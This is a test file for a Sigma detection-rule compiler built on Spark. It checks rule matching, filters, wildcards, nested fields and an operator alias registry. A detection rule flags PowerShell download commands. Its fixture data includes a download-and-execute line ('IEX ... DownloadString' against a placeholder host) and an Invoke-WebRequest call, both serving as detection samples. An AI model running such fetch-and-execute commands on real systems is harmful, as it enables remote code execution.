"""Sigma rule compiler tests (semantics per the public Sigma spec;
reference behavior: plugins/sigma)."""

from __future__ import annotations

import pytest
from pyspark.sql import Row

from tenzir_spark.functions.sigma import compile_rule, sigma
from tenzir_spark.plans.registry import register_alias, get_alias, show

RULE = """
title: Suspicious PowerShell Download
id: 11111111-2222-3333-4444-555555555555
level: high
detection:
  selection_img:
    Image|endswith: '\\powershell.exe'
  selection_cmd:
    CommandLine|contains:
      - 'DownloadString'
      - 'Invoke-WebRequest'
  filter:
    User: 'SYSTEM'
  condition: selection_img and selection_cmd and not filter
"""


@pytest.fixture(scope="module")
def events(spark):
    rows = [
        Row(Image=r"C:\Windows\powershell.exe", CommandLine="IEX (New-Object Net.WebClient).DownloadString('http://x')", User="alice"),
        Row(Image=r"C:\Windows\powershell.exe", CommandLine="Get-ChildItem", User="bob"),
        Row(Image=r"C:\Windows\cmd.exe", CommandLine="DownloadString", User="carol"),
        Row(Image=r"C:\Windows\powershell.exe", CommandLine="Invoke-WebRequest http://y", User="SYSTEM"),
    ]
    return spark.createDataFrame(rows)


def test_rule_matches(events):
    pred, meta = compile_rule(RULE, events)
    got = [r.User for r in events.filter(pred).collect()]
    assert got == ["alice"]  # bob: no cmd match; carol: wrong image; SYSTEM: filtered
    assert meta["level"] == "high"


def test_sigma_operator_wraps(events):
    out = sigma(events, RULE)
    rows = out.collect()
    assert len(rows) == 1
    assert rows[0].rule.title == "Suspicious PowerShell Download"
    assert rows[0].event.User == "alice"


def test_case_insensitive_default(spark):
    df = spark.createDataFrame([Row(Image="POWERSHELL.EXE x")])
    pred, _ = compile_rule(
        {"detection": {"sel": {"Image|contains": "powershell"}, "condition": "sel"}}, df)
    assert df.filter(pred).count() == 1


def test_wildcards_and_lists(spark):
    df = spark.createDataFrame([Row(path="/usr/bin/curl"), Row(path="/opt/wget")])
    rule = {"detection": {
        "sel": {"path": ["*curl", "*wget*"]},
        "condition": "1 of them"}}
    pred, _ = compile_rule(rule, df)
    assert df.filter(pred).count() == 2


def test_nested_field_suffix(spark):
    df = spark.createDataFrame([Row(proc=Row(Image="a\\powershell.exe")),
                                Row(proc=Row(Image="b\\cmd.exe"))])
    pred, _ = compile_rule(
        {"detection": {"s": {"Image|endswith": "powershell.exe"}, "condition": "s"}}, df)
    assert df.filter(pred).count() == 1


def test_alias_registry(spark):
    from tenzir_spark import operators as ops
    register_alias("top_users", lambda df, n=3: ops.top(df, "User", limit=n))
    df = spark.createDataFrame([Row(User="a"), Row(User="a"), Row(User="b")])
    out = get_alias("top_users")(df, 1).collect()
    assert out[0].User == "a"
    assert "top_users" in [r[0] for r in show(spark, "aliases").collect()]


def test_show_aspects(spark):
    ops_list = [r[0] for r in show(spark, "operators").collect()]
    assert "summarize" in ops_list and "deduplicate" in ops_list
    with pytest.raises(ValueError):
        show(spark, "nope")
